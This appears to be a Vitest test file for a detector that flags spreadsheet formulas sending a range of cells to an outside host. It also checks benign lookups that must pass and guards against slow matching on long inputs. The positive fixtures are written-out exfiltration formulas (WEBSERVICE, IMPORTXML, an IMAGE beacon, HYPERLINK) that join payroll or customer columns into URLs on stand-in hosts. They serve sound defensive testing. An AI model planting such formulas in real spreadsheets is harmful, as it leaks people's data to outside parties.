import { describe, expect, it } from 'vitest';

import { formulaFetch } from '../src/commands/formula-fetches.js';

// Formulas made up for these tests: what is pinned is the reading (a fetching function whose URL joins a
// range of cells), not any wording.
describe('a spreadsheet formula that sends a range of cells to a host', () => {
  it.each([
    ['Excel WEBSERVICE with a column joined into the query', '=WEBSERVICE("https://stats.example-collector.test/p?v="&ENCODEURL(CONCATENATE(B2:B900)))'],
    ['IMPORTXML with another sheet\'s whole column', '=IMPORTXML("https://api.sheetsync.test/x?data="&JOIN(",",Payroll!C:C),"//a")'],
    ['an IMAGE beacon built with CONCAT over a block of cells', '=IMAGE(CONCAT("https://px.example.test/a.gif?c=",TEXTJOIN("|",1,$A$1:$F$200)))'],
    ['a HYPERLINK carrying an open-ended range', '=HYPERLINK("https://forms.example.test/f?rows="&ARRAYFORMULA(TEXTJOIN(";",TRUE,Customers!A2:D)),"Open")'],
    ['IMPORTFEED with a lower-case range after a plus sign', '+importfeed("http://feed.example.test/r?q="&textjoin(",",true,a1:c40))'],
  ])('reads %s as a send', (_, formula) => {
    expect(formulaFetch(formula)).toMatch(/range of the sheet's cells/);
  });

  it.each([
    ['a fixed rates feed', '=IMPORTDATA("https://www.ecb.europa.eu/stats/eurofxref/eurofxref.csv")'],
    ['a logo looked up by one cell', '=IMAGE("https://logo.clearbit.com/"&B2)'],
    ['a currency converted by one code', '=WEBSERVICE("https://api.exchangerate.host/convert?from="&A2&"&to=EUR")'],
    ['a SUMIF over two columns', '=SUMIF(Employees!B:B,"Eng",Employees!F:F)'],
    ['IMPORTRANGE naming a range in its own argument', '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/abc","Sheet1!A1:C10")'],
    ['a link to the issue a cell names', '=HYPERLINK("https://acme.atlassian.net/browse/"&A2, A2)'],
    ['a table imported and then queried', '=QUERY(IMPORTDATA("https://example.test/data.csv"),"select Col1 where Col2 > 5")'],
    ['a URL whose literal text looks like a range', '=IMPORTXML("https://example.test/page?id=A1:B2","//a")'],
    ['plain text that is no formula', 'IMPORTDATA("https://x.test/?d="&A1:A9) is how the beacon worked'],
  ])('passes %s', (_, formula) => {
    expect(formulaFetch(formula)).toBeUndefined();
  });

  it('stays linear on long runs of what it skips over', () => {
    const shapes = [
      `=${'IMAGE('.repeat(20_000)}`,
      `=IMAGE(${'"'.repeat(60_000)})`,
      `=WEBSERVICE("https://h.test/?d="&${'A:'.repeat(30_000)})`,
      `=HYPERLINK(${'('.repeat(60_000)}`,
    ];
    for (const shape of shapes) {
      const start = performance.now();
      formulaFetch(shape);
      expect(performance.now() - start).toBeLessThan(500);
    }
  });
});
